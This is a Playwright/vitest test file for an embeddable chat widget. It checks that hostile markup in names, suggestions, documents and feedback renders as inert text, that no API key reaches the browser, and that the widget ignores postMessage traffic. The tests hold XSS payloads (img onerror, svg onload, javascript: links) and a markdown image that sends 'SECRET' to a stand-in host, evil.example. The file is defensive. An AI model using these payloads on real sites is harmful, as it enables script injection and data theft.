import { describe, expect, test } from 'vitest';
import { addText } from './add-text.ts';
import { keepPicture } from './browser.ts';
import { expectAccessible } from './accessible.ts';
import { addPerson } from './console.ts';
import { openSiteWithWidget } from './open-site-with-widget.ts';
import { allowWidget, askIn, openPanel, openVisitor, shopPage } from './widget.ts';

const slowly = { timeout: 30_000 };
const evil = 'https://evil.example/?q=SECRET';
const markup = `<img src=x onerror=hit=1><svg onload=hit=1> ![a](${evil}) [b](javascript:hit=1)`;
const forbidden =
  'img, script, style, link, a, iframe, svg, math, object, [onerror], [href], [src]';

describe('hostile text in the widget', () => {
  test('S17, S18: in names, suggestions, pages, questions and feedback is shown as text and loads nothing', async () => {
    const { site, organisation, shop, team } = await openSiteWithWidget();
    const { call } = organisation;
    await call('PATCH', `/v1/teams/${team.id}`, { name: `T ${markup}`.slice(0, 100) });
    const suggestion = `Q ${markup}`.slice(0, 100);
    await allowWidget(organisation, [shop.origin], {
      suggestions: [suggestion],
      isQuestionsTaken: true,
    });
    await call('POST', '/v1/workflows', {
      name: `W ${markup}`.slice(0, 100),
      command: 'planted',
      visibility: 'team',
    });
    const name = `<img src=x onerror=hit=1>.md`;
    const text = `# Zeppelin ${markup}\n\nThe zeppelin is moored at the oak. ${markup}\n`;
    await addText(site, organisation, { name, text, visibility: 'public' });
    const email = 'eve@mill.example';
    await addPerson(site, organisation, {
      email,
      firstName: '<img src=x onerror=hit=1>',
      lastName: '<b>Eve</b>',
      role: 'member',
    });
    const { token } = await call('POST', '/v1/widget/tokens', {
      userEmail: email,
      origin: shop.origin,
    });
    const body = `<script type="module">document.querySelector('guildhall-chat').token = () => '${token}';</script>`;
    shop.add('/', shopPage(site, { team: team.id, body }));
    const { page, faults } = await openVisitor(site, shop);
    const expectText = async () => {
      const elements = await page
        .locator('.panel')
        .evaluate((it: any, query) => it.querySelectorAll(query).length, forbidden);
      expect([elements, await page.evaluate(`'hit' in window`)]).toEqual([0, false]);
    };
    await openPanel(page);
    await page.getByText('<b>Eve</b>').waitFor(slowly);
    expect(await page.locator('.title').textContent()).toContain('<svg onload=hit=1>');
    await page.keyboard.type('!planted');
    await page.getByRole('option').getByText('<svg onload=hit=1>').waitFor(slowly);
    await expectText();
    await page.locator('.composer textarea').fill('');
    await page.locator('.chips button').first().click();
    await page.locator('.question').getByText('<svg onload=hit=1>').waitFor(slowly);
    await page.getByRole('button', { name: 'Send' }).waitFor(slowly);
    await page.getByRole('button', { name: 'New chat' }).click();
    await page.locator('.greeting').waitFor(slowly);
    await askIn(page, 'Where is the zeppelin moored?');
    await page.locator('.answer .reference').first().click();
    await page.locator('mark').first().waitFor(slowly);
    expect(await page.locator('.text').textContent()).toContain('<svg onload=hit=1>');
    await expectText();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Suggest a correction' }).last().click();
    await page.getByLabel('What should it say?').last().fill(markup);
    await page.locator('.answer form').last().getByRole('button').click();
    await page.getByRole('button', { name: 'Earlier chats' }).click();
    await page.locator('.history').getByText('<svg onload=hit=1>').first().waitFor(slowly);
    await expectText();
    await expectAccessible(page);
    await keepPicture(page, 'widget-planted');
    expect(faults()).toEqual([]);
  });

  test('of the greatest length stays inside the panel', async () => {
    const { site, organisation, shop } = await openSiteWithWidget();
    const long = 'W'.repeat(5000);
    await allowWidget(organisation, [shop.origin], {
      title: long.slice(0, 60),
      greeting: long.slice(0, 500),
      suggestions: [long.slice(0, 100)],
    });
    const narrow = { viewport: { width: 320, height: 640 } };
    const { page, faults } = await openVisitor(site, shop, '/', narrow);
    await openPanel(page);
    await page.locator('.composer textarea').fill(`${long}${long}`);
    await page.keyboard.press('Enter');
    await page
      .locator('.answer')
      .getByRole('button')
      .or(page.getByRole('alert').getByText(/\w/))
      .first()
      .waitFor(slowly);
    const wide = await page
      .locator('.panel')
      .evaluate((it: any) =>
        [...it.querySelectorAll('*')]
          .filter((part: any) => part.getBoundingClientRect().right > 320.5)
          .map((part: any) => part.className),
      );
    expect(wide).toEqual([]);
    expect(await page.getByRole('button', { name: 'Close' }).isVisible()).toBe(true);
    await expectAccessible(page);
    await keepPicture(page, 'widget-long');
    expect(faults()).toEqual([]);
  });
});

describe('S24: attacks on the page', () => {
  test('the attack “an API key in the page”: the browser receives, stores and shows no key', async () => {
    const { site, organisation, shop } = await openSiteWithWidget();
    const heard: string[] = [];
    const { page, faults } = await openVisitor(site, shop, '/empty');
    page.on('response', (response) => {
      heard.push(JSON.stringify(response.headers()));
      response.text().then(
        (text) => heard.push(text),
        () => {},
      );
    });
    await page.goto(shop.origin);
    await openPanel(page);
    await askIn(page, 'When does the mill grind?');
    const kept: string = await page.evaluate(
      `JSON.stringify({ ...sessionStorage, ...localStorage }) + document.cookie + document.documentElement.outerHTML`,
    );
    const drawn = await page.locator('.panel').evaluate((it: any) => it.outerHTML);
    await expect.poll(() => heard.join(), slowly).toContain('"secret"');
    const all = [...heard, kept, drawn].join('\n');
    expect(all).toContain('from six to nine');
    expect(all).not.toMatch(/gh_[A-Za-z0-9_-]{20,}/);
    expect(all).not.toContain(organisation.headers.authorization.slice(7));
    expect(await page.evaluate('document.cookie')).toBe('');
    expect(await page.context().cookies()).toEqual([]);
    expect(faults()).toEqual([]);
  });

  test('the attack “postMessage”: the widget neither listens to other windows nor posts to them', async () => {
    const { site, shop } = await openSiteWithWidget();
    shop.add(
      '/framed',
      `<!doctype html><html lang="en"><title>Frame</title><iframe src="/"></iframe></html>`,
    );
    const { page, faults } = await openVisitor(site, shop, '/empty');
    await page.addInitScript(`
      globalThis.said = [];
      const { addEventListener } = EventTarget.prototype;
      EventTarget.prototype.addEventListener = function (type, ...rest) {
        if (type === 'message') said.push('listens');
        return addEventListener.call(this, type, ...rest);
      };
      globalThis.postMessage = new Proxy(globalThis.postMessage, {
        apply: (post, self, [message, ...rest]) => {
          if (message?.from !== 'test') said.push('speaks');
          return Reflect.apply(post, self, [message, ...rest]);
        },
      });
    `);
    await page.goto(`${shop.origin}/framed`);
    const [, frame] = page.frames();
    await frame!.locator('.open').click(slowly);
    await frame!.locator('.greeting').waitFor(slowly);
    const orders = ['open', 'close', 'ask', 'token', 'openDocument', 'session', 'guildhall:open'];
    for (const order of orders) {
      const message = {
        from: 'test',
        type: order,
        action: order,
        event: order,
        text: 'Hi',
        token: 'x',
      };
      await page.evaluate(`frames[0].postMessage(${JSON.stringify(message)}, '*')`);
      await frame!.evaluate(`window.postMessage(${JSON.stringify(message)}, '*')`);
    }
    await frame!.locator('.composer textarea').fill('When does the mill grind?');
    await frame!.locator('.composer textarea').press('Enter');
    await frame!.locator('.answer').getByText('from six to nine').waitFor(slowly);
    expect(await frame!.locator('.question').count()).toBe(1);
    const said = [await page.evaluate('said'), await frame!.evaluate('said')];
    expect([...said, await frame!.evaluate('window.onmessage')]).toEqual([[], [], null]);
    expect(faults()).toEqual([]);
  });
});
